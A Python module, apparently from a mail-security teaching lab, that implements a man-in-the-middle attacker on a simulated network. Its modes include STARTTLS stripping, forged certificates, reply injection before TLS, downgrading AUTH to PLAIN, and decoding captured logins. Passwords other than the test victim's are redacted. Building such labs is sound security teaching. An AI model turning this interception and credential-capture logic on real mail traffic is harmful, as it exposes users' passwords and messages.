"""A man in the middle of the practice internet: he sits on the way from one place and gets all that passes there.

The kinds are those of RFC 3207 section 6 and of *NO STARTTLS* (Poddebniak et al., USENIX Security 2021):

* ``watch`` passes everything on and reads what is readable;
* ``strip`` hides that the server offers TLS, and speaks TLS to the server himself, so that all works as usual;
* ``self_signed``, ``expired`` and ``wrong_name`` answer STARTTLS, and TLS from the start, with a certificate of that
  kind in the server's place;
* ``inject_reply`` lets TLS begin, but says something in the server's name just before it does.

He works in the practice internet only, and shows no other password than that of ``victim``, which is no secret.
"""

from __future__ import annotations

import asyncio
import base64
import binascii
import re
import socket
import ssl
import tempfile
from collections.abc import Awaitable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from mailkit.clients import IMPLICIT_TLS_PORTS, Line
from mailkit.conversation.encryption import unverified_context
from mailkit.lab import ca
from mailkit.lab.core import Lab
from mailkit.lab.listening import listening
from mailkit.results import Record, Rows, visible

__all__ = ["KINDS", "VICTIM", "Attacker", "Catch", "attack"]

FORGERIES = ("self_signed", "expired", "wrong_name")
KINDS = ("watch", "strip", *FORGERIES, "inject_reply")
VICTIM = "victim@kaisha.example"
FALSE_REPLY = b"250-mx.spoof.example at your service (said before TLS began)\r\n250 AUTH PLAIN\r\n"

_MOST_LINES = 1000
_PATIENCE = 10.0  # seconds for a TLS handshake


@dataclass(frozen=True)
class Catch(Record):
    """A login that the man in the middle could read; only the victim's password is shown."""

    user: str
    password: str
    mechanism: str
    server: str


class Attacker:
    """A man in the middle of kind *kind* in *lab*; ``overheard`` is all he could read, ``caught`` the logins in it."""

    def __init__(self, lab: Lab, kind: str) -> None:
        self.lab, self.kind = lab, kind
        self._lines: list[Line] = []
        self._caught: list[Catch] = []

    @property
    def overheard(self) -> Rows[Line]:
        """The conversations as he read them; "encrypted" says whether the client took its line for safe."""
        return Rows(Line, self._lines, caption=f"overheard by the man in the middle ({self.kind})")

    @property
    def caught(self) -> Rows[Catch]:
        """The logins he read."""
        return Rows(Catch, self._caught, caption=f"caught by the man in the middle ({self.kind})")

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Take one connection that was meant for another."""
        # Not a word is read before it is clear who reads it: what a stream has in its buffer, TLS would never see.
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        router = self.lab.router
        near_port = writer.get_extra_info("peername")[1]
        sock = socket.socket()
        sock.setblocking(False)
        sock.bind(("127.0.0.1", 0))
        far_port = sock.getsockname()[1]
        far_writer: asyncio.StreamWriter | None = None
        try:
            address, port = router.wanted[near_port]
            # The server is to see the client's address, as it does when the attacker shares the client's router.
            router.clients[far_port] = router.clients[near_port]
            await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", router.listeners[address, port]))
            far_reader, far_writer = await asyncio.open_connection(sock=sock)
            talk = _Talk(self, (reader, writer), (far_reader, far_writer), router.owners[address].name, port)
            await talk.run()
        finally:
            router.clients.pop(far_port, None)
            if far_writer:
                far_writer.transport.abort()  # a polite end of TLS would wait for the server's
            else:
                sock.close()

    def hear(self, who: str, line: bytes, encrypted: bool) -> None:
        """Note one line, as long as there is room."""
        if len(self._lines) < _MOST_LINES:
            self._lines.append(Line(who, visible(line.decode("utf-8", "replace").rstrip("\r\n")), encrypted))

    def catch(self, user: str, password: str, mechanism: str, server: str) -> None:
        """Note one login; a password other than the victim's is not kept."""
        shown = password if user == VICTIM else "(not shown)"
        self._caught.append(Catch(visible(user), visible(shown), mechanism, server))


Stream = tuple[asyncio.StreamReader, asyncio.StreamWriter]


class _Talk:
    """One conversation: *near* is the client, *far* the server *host*, and he is between them."""

    def __init__(self, attacker: Attacker, near: Stream, far: Stream, host: str, port: int) -> None:
        self.attacker, self.near, self.far, self.host, self.port = attacker, near, far, host, port
        self.encrypted = False  # as the client sees it
        self.awaits_keywords = False
        self.awaits_go_ahead = False
        self.go_on = asyncio.Event()
        self.in_auth = False

    @property
    def forges(self) -> bool:
        return self.attacker.kind in FORGERIES

    async def run(self) -> None:
        """Carry the conversation from end to end."""
        implicit = self.port in IMPLICIT_TLS_PORTS
        if implicit and self.forges:
            await self._begin_tls(self.near, self._forged())
            self.encrypted = True
            await self._begin_tls(self.far, unverified_context())
        else:
            self.near[1].transport.resume_reading()  # type: ignore[attr-defined]
        if implicit and not self.forges:
            await self._pass_on()  # nothing to strip, nothing to read
            return
        if not implicit and (self.attacker.kind == "strip" or self.forges):
            await self._secure_far()
        await self._both(self._from_client(), self._from_server())

    async def _both(self, *ways: Awaitable[None]) -> None:
        """Run both directions until one of them ends."""
        tasks = [asyncio.ensure_future(way) for way in ways]
        try:
            await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
        finally:
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)

    async def _pass_on(self) -> None:
        await self._both(_copy(self.near[0], self.far[1]), _copy(self.far[0], self.near[1]))

    # Towards the client -------------------------------------------------------------------------------------------

    async def _from_client(self) -> None:
        verb = b""
        while line := await self.near[0].readline():
            verb = line.strip().upper()
            self.attacker.hear("C", self._overheard(line), self.encrypted)
            if verb == b"STARTTLS" and await self._answers_starttls():
                continue
            self.awaits_keywords = verb.startswith(b"EHLO")
            self.awaits_go_ahead = verb == b"STARTTLS"
            self.far[1].write(line)
            await self.far[1].drain()
            if self.awaits_go_ahead:
                await self.go_on.wait()  # if the server says yes, what follows is TLS and none of ours
                self.go_on.clear()
        if verb == b"QUIT":  # it may have closed its side at once, as Exim does, and the answers are on their way
            await asyncio.sleep(_PATIENCE)

    async def _answers_starttls(self) -> bool:
        """Answer STARTTLS in the server's place; False where he lets the server answer."""
        if self.attacker.kind == "strip":
            await self._say(b"454 4.7.0 TLS not available\r\n")
            return True
        if not self.forges:
            return False
        self.near[1].transport.pause_reading()  # type: ignore[attr-defined]
        await self._say(b"220 2.0.0 Ready to start TLS\r\n")
        await self._begin_tls(self.near, self._forged())
        self.encrypted = True
        return True

    async def _say(self, line: bytes) -> None:
        self.attacker.hear("S", line, self.encrypted)
        self.near[1].write(line)
        await self.near[1].drain()

    async def _from_server(self) -> None:
        while line := await self.far[0].readline():
            for part in self._altered(line):
                await self._say(part)
            if self.awaits_go_ahead and line.startswith(b"220"):
                if self.attacker.kind == "inject_reply":
                    for false in FALSE_REPLY.splitlines(keepends=True):
                        await self._say(false)
                await self._pass_on()
                return
            if line[3:4] == b" ":
                self.awaits_keywords = False
                self.in_auth = self.in_auth and line.startswith(b"334")
                if self.awaits_go_ahead:
                    self.awaits_go_ahead = False
                    self.go_on.set()

    def _altered(self, line: bytes) -> list[bytes]:
        """Return what the client gets of *line*: of the keywords of EHLO he makes his own selection."""
        if not self.awaits_keywords or not line.startswith(b"250") or self.attacker.kind in ("watch", "inject_reply"):
            return [line]
        keyword = line[4:].split()[0].upper()
        if keyword == b"AUTH":
            return [line[:4] + b"AUTH PLAIN\r\n"]  # of the mechanisms he leaves the one that says the password
        if line[3:4] == b" " and self.forges and not self.encrypted:
            return [b"250-STARTTLS\r\n", line]
        return [line]

    # Towards the server -------------------------------------------------------------------------------------------

    async def _secure_far(self) -> None:
        """Begin TLS with the server, before the client has said a word, and let the client have its greeting."""
        greeting = await self.far[0].readline()
        for command in (b"EHLO relay.spoof.example\r\n", b"STARTTLS\r\n"):
            self.far[1].write(command)
            while (reply := await self.far[0].readline())[3:4] == b"-":
                pass
            if not reply.startswith((b"220", b"250")):
                break
        else:
            await self._begin_tls(self.far, unverified_context())
        await self._say(greeting)

    def _forged(self) -> ssl.SSLContext:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        with tempfile.TemporaryDirectory() as folder:
            file = Path(folder, "forged.pem")
            file.write_bytes(ca.issue(self.attacker.lab.world, self.host, self.attacker.kind))
            context.load_cert_chain(file)
        return context

    @staticmethod
    async def _begin_tls(stream: Stream, context: ssl.SSLContext) -> None:
        await stream[1].start_tls(context, ssl_handshake_timeout=_PATIENCE)

    # What he makes of it ------------------------------------------------------------------------------------------

    def _overheard(self, line: bytes) -> bytes:
        """Return *line* as it may be kept, and catch the login in it; what is not the victim's is not kept."""
        asked = re.match(rb"AUTH +([\w-]+) *(.*)", line.strip(), re.IGNORECASE)
        if not asked and not self.in_auth:
            return line
        self.in_auth = True
        secret = asked[2] if asked else line.strip()
        try:
            parts = base64.b64decode(secret, validate=True).decode("utf-8", "replace").split("\0")
        except (binascii.Error, ValueError):
            parts = []
        if len(parts) == 3:
            self.attacker.catch(parts[1], parts[2], "PLAIN", f"{self.host}:{self.port}")
            if parts[1] == VICTIM:
                return line
        kept = b"AUTH " + asked[1] + b" " if asked else b""
        return kept + (b"(redacted)" if secret else b"")


async def _copy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while data := await reader.read(65536):
        writer.write(data)
        await writer.drain()


@contextmanager
def attack(lab: Lab, kind: str, *, vantage: str = "hotel") -> Iterator[Attacker]:
    """Put a man in the middle of *kind* on the way from *vantage* for as long as the block lasts.

    *vantage* is a place, or the name of a server of the lab: then he gets what this server sends to others.

    Raises ValueError for another kind than those of :data:`KINDS`, or another place than those of *lab*.
    """
    if kind not in KINDS:
        raise ValueError(f"no attack {kind!r}; there are {', '.join(KINDS)}")
    place = vantage if vantage in lab.world.hosts else lab.network(vantage).vantage
    attacker = Attacker(lab, kind)
    with listening(lab, attacker.serve) as port:
        lab.router.taps[place] = port
        try:
            yield attacker
        finally:
            lab.router.taps.pop(place, None)
